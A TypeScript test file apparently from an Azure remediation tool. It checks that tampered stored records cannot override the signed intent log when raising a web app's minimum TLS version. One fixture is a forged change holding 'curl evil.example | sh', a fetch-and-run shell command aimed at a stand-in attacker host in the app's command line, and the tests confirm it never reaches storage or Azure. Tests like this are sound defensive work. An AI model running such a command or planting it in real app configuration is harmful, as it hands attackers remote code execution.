/**
 * A stored intent that was changed by somebody who can write tables but cannot sign: the log decides what was
 * intended.
 */
import { describe, expect, test } from 'vitest';
import type { Change } from '../../../src/domain/changes/change.ts';
import { refused } from '../../fakes/azure/arm.ts';
import { gridEvent } from '../../fakes/azure/event-grid.ts';
import { SHOP } from '../../fakes/azure/resources.ts';
import { deliverAndSettle } from '../../fakes/scenarios/scenarios.ts';
import { recordsIn, type Scene, scene } from '../../fakes/scenarios/scene.ts';
import { watchedDeps } from '../../fakes/wrappers/watched.ts';
import { tlsNow } from '../approvals/rolling-back.ts';

const COMMAND = '/properties/appCommandLine';
const forged: Change[] = [{ document: 'config/web', path: COMMAND, from: 'curl evil.example | sh', to: null }];

/** A process that died after the intent was logged, before or after Azure carried out the write. */
async function died(when: 'before' | 'after'): Promise<Scene> {
  let left = 1;
  const made = scene({
    app: { config: { minTlsVersion: '1.0' } },
    ports: (whole) =>
      watchedDeps(whole, async (name, go) => {
        if (name !== 'arm.write' || left-- <= 0) return go();
        if (when === 'after') await go();
        throw new Error('the process ended');
      }),
  });
  await made.host.deliver(gridEvent('e', SHOP));
  made.deps.clock.advance(30);
  await made.host.work();
  expect(recordsIn(made.deps)).toEqual(['fix.intended webapp-min-tls']);
  return made;
}

function tamper({ deps }: Scene): void {
  const [[key, memory] = []] = deps.stored.resourceStates;
  if (!key || !memory) throw new Error('the resource is remembered');
  const attempts = memory.attempts.map((attempt) => ({ ...attempt, changes: forged }));
  deps.stored.resourceStates.set(key, { ...memory, attempts });
}

describe('guarantee 14: the intent is that of the log, not that of the tables', () => {
  test.each(['before', 'after'] as const)('when the process died %s the write', async (when) => {
    const made = await died(when);
    tamper(made);
    await made.host.settle();
    expect(tlsNow(made.deps)).toBe('1.2');
    expect(recordsIn(made.deps)).toEqual(['fix.intended webapp-min-tls', 'fix.applied webapp-min-tls']);
    expect(JSON.stringify([made.deps.stored.entries, made.deps.arm.requests])).not.toContain(COMMAND);
  });

  test('when a blocked attempt is repeated, with the changes of the current evaluation', async () => {
    const made = scene({ app: { config: { minTlsVersion: '1.0' } } });
    const { deps, host } = made;
    deps.arm.onWrite = () => refused('blocked', 'ScopeLocked');
    await deliverAndSettle(host, 'first', SHOP);
    tamper(made);
    deps.arm.onWrite = null;
    await deliverAndSettle(host, 'second', SHOP);
    const kinds = ['fix.intended', 'fix.blocked', 'fix.applied'];
    expect([tlsNow(deps), recordsIn(deps)]).toEqual(['1.2', kinds.map((kind) => `${kind} webapp-min-tls`)]);
    expect(JSON.stringify(deps.stored.entries)).not.toContain(COMMAND);
  });

  test('when the app is deleted', async () => {
    const made = await died('before');
    tamper(made);
    made.deps.arm.remove(SHOP);
    await made.host.settle();
    expect(recordsIn(made.deps)).toEqual(['fix.intended webapp-min-tls', 'fix.failed webapp-min-tls']);
    expect(JSON.stringify(made.deps.stored.entries)).not.toContain(COMMAND);
  });

  test('when the entry was edited there is no intent, and an error is logged', async () => {
    const made = await died('after');
    const { entries } = made.deps.stored;
    entries.splice(0, 1, ...entries.map((entry) => ({ ...entry, changes: forged })));
    await made.host.settle();
    expect(recordsIn(made.deps, 'fix.applied')).toEqual([]);
  });
});
